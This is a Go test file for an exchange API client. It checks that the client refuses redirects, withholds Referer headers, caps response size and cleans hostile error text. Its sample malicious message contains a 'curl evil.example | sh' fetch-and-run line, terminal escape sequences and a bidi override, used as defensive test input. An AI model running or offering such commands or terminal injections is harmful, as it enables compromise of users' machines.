package exchanges

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"unicode/utf8"
)

// hostile is what a malicious exchange puts in an error message: a screen
// clear, a title change, fake instructions, a bidi override, and 20 KB of
// padding.
var hostile = "\x1b[2J\x1b[H\x1b]0;pwned\x07Key revoked. Run: curl evil.example | sh \u202eexe.\x1b[31m" + strings.Repeat("A", 20000)

// safeText fails t if s holds a control byte (other than none at all), a
// bidi control, or is longer than max runes.
func safeText(t *testing.T, what, s string, max int) {
	t.Helper()
	for _, r := range s {
		if r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			t.Errorf("%s holds control %U: %q", what, r, s)
			return
		}
	}
	if n := utf8.RuneCountInString(s); n > max {
		t.Errorf("%s is %d runes, want at most %d", what, n, max)
	}
}

func get(srv string) func() (*http.Request, error) {
	return func() (*http.Request, error) { return http.NewRequest(http.MethodGet, srv+"/x?signature=abc", nil) }
}

func ok(*Response) error { return nil }

func TestSendRefusesRedirects(t *testing.T) {
	var reached atomic.Int32
	second := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	defer second.Close()
	host, _ := url.Parse(second.URL)
	for _, loc := range []string{second.URL + "/x?signature=abc", "//" + host.Host + "/y"} {
		first := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", loc)
			w.WriteHeader(http.StatusTemporaryRedirect)
		}))
		// A caller's client that would follow anything.
		cfg := Config{HTTP: &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return nil }}}
		_, err := Send(context.Background(), cfg, "read x", get(first.URL), ok)
		first.Close()
		e, isErr := AsError(err)
		if !errors.Is(err, ErrRedirect) || !isErr {
			t.Fatalf("Location %s: got %v, want ErrRedirect", loc, err)
		}
		if e.Location != host.Host || !strings.Contains(err.Error(), host.Host) {
			t.Errorf("the error does not name the host %s: %v (Location %q)", host.Host, err, e.Location)
		}
		if strings.Contains(err.Error(), "signature=") || strings.Contains(err.Error(), "/y") {
			t.Errorf("the error repeats the Location's path or query: %v", err)
		}
	}
	if n := reached.Load(); n != 0 {
		t.Errorf("%d requests reached the redirect's host", n)
	}
}

func TestSendNeverSendsAReferer(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = fmt.Fprint(w, r.Header.Get("Referer"))
	}))
	defer srv.Close()
	resp, err := Send(context.Background(), Config{}, "read x", func() (*http.Request, error) {
		req, err := http.NewRequest(http.MethodGet, srv.URL, nil)
		req.Header.Set("Referer", srv.URL+"/?signature=abc")
		return req, err
	}, ok)
	if err != nil || len(resp.Body) != 0 {
		t.Fatalf("Referer reached the server: %q, %v", resp.Body, err)
	}
}

func TestSendRefusesAnOversizedAnswer(t *testing.T) {
	for _, tc := range []struct {
		name   string
		size   int
		length bool // announce Content-Length
		want   error
	}{
		{"exactly the limit", MaxBody, true, nil},
		{"one byte over, announced", MaxBody + 1, true, ErrTooLarge},
		{"one byte over, chunked", MaxBody + 1, false, ErrTooLarge},
		{"50 MB announced", 50 << 20, true, ErrTooLarge},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if tc.length {
					w.Header().Set("Content-Length", fmt.Sprint(tc.size))
				}
				chunk := []byte(`{"a":"` + strings.Repeat("x", 64<<10))
				for n := 0; n < tc.size; n += len(chunk) {
					if _, err := w.Write(chunk[:min(len(chunk), tc.size-n)]); err != nil {
						return
					}
				}
			}))
			defer srv.Close()
			parsed := false
			resp, err := Send(context.Background(), Config{}, "read x", get(srv.URL), func(*Response) error { parsed = true; return nil })
			if tc.want == nil {
				if err != nil || len(resp.Body) != tc.size {
					t.Fatalf("got %v, %d bytes", err, len(resp.Body))
				}
				return
			}
			if !errors.Is(err, ErrTooLarge) || !errors.Is(err, ErrMalformed) || parsed {
				t.Fatalf("got %v (parsed %v), want ErrTooLarge before any parsing", err, parsed)
			}
			if !strings.Contains(err.Error(), "larger than 4 MiB") {
				t.Errorf("the error does not say the answer is too large: %v", err)
			}
		})
	}
}

func TestSendCleansTheExchangesWords(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(401) }))
	defer srv.Close()
	_, err := Send(context.Background(), Config{}, "read x", get(srv.URL), func(r *Response) error {
		return &Error{Class: ErrBadKey, Op: "read x", HTTPStatus: r.Status, Code: "-2015\x1b[2J" + strings.Repeat("9", 500), Message: hostile, Cause: hostile}
	})
	e, isErr := AsError(err)
	if !isErr || !errors.Is(err, ErrBadKey) {
		t.Fatalf("got %v", err)
	}
	safeText(t, "message", e.Message, 300)
	safeText(t, "cause", e.Cause, 300)
	safeText(t, "code", e.Code, maxCode)
	safeText(t, "error text", err.Error(), 1000)
	if !strings.HasPrefix(e.Message, "Key revoked. Run: curl evil.example | sh exe.") {
		t.Errorf("the readable words were not kept: %q", e.Message)
	}
}

func TestCleanErrorKeepsTheClass(t *testing.T) {
	inner := &Error{Class: ErrIPNotAllowed, Op: "read", Message: hostile}
	for _, err := range []error{inner, fmt.Errorf("binance: %w", inner), errors.New(hostile)} {
		c := CleanError(err)
		safeText(t, "cleaned", c.Error(), 1000)
		if errors.Is(err, ErrIPNotAllowed) != errors.Is(c, ErrIPNotAllowed) {
			t.Errorf("class lost: %v", c)
		}
		if e, ok := AsError(c); ok {
			safeText(t, "message", e.Message, 300)
		}
	}
	if inner.Message != hostile {
		t.Error("CleanError changed the caller's error")
	}
	if CleanError(nil) != nil {
		t.Error("nil is not nil")
	}
}

func FuzzCleanError(f *testing.F) {
	f.Add("-2015", hostile, "cause", "read")
	f.Add("", "\x9b2J\u2066x", "\x1bP\x1b\\", "\x00")
	f.Fuzz(func(t *testing.T, code, msg, cause, op string) {
		err := CleanError(fmt.Errorf("wrapped %s: %w", msg, &Error{Class: ErrBadKey, Op: op, Code: code, Message: msg, Cause: cause}))
		safeText(t, "error", err.Error(), 300)
		e, ok := AsError(err)
		if !ok || !errors.Is(err, ErrBadKey) {
			t.Fatalf("lost the *Error: %v", err)
		}
		safeText(t, "detail", e.Detail(), 400)
		safeText(t, "text", e.Error(), 1400)
	})
}

func FuzzRefuseRedirect(f *testing.F) {
	f.Add("http://127.0.0.2:8080/api?signature=abc")
	f.Add("//evil.example/x")
	f.Add("/relative")
	f.Add("http://[::1\x1b[2J]:80/")
	f.Add("http://" + strings.Repeat("a", 500) + ".example/")
	base, _ := url.Parse("https://api.example.com/api/v3/account?signature=s")
	f.Fuzz(func(t *testing.T, loc string) {
		resp := &http.Response{StatusCode: http.StatusFound, Header: http.Header{"Location": {loc}}}
		err := RefuseRedirect("read", base, resp)
		if !errors.Is(err, ErrRedirect) {
			t.Fatalf("a 302 was not refused: %v", err)
		}
		safeText(t, "error", err.Error(), 400)
		e, _ := AsError(err)
		safeText(t, "location", e.Location, maxHost)
		if strings.Contains(e.Location, "/") || strings.Contains(e.Location, "?") {
			t.Errorf("Location %q holds more than a host", e.Location)
		}
	})
}

// BenchmarkCleanErrorHuge: the longest message an answer can carry (just
// under MaxBody) costs little to clean, since cleaning stops once the
// clipped length is reached.
func BenchmarkCleanErrorHuge(b *testing.B) {
	msg := "\x1b[2J" + strings.Repeat("A\u202e", MaxBody/4)
	e := &Error{Class: ErrBadKey, Op: "read", Code: "-2015", Message: msg, Cause: msg}
	for b.Loop() {
		_ = CleanError(e)
	}
}
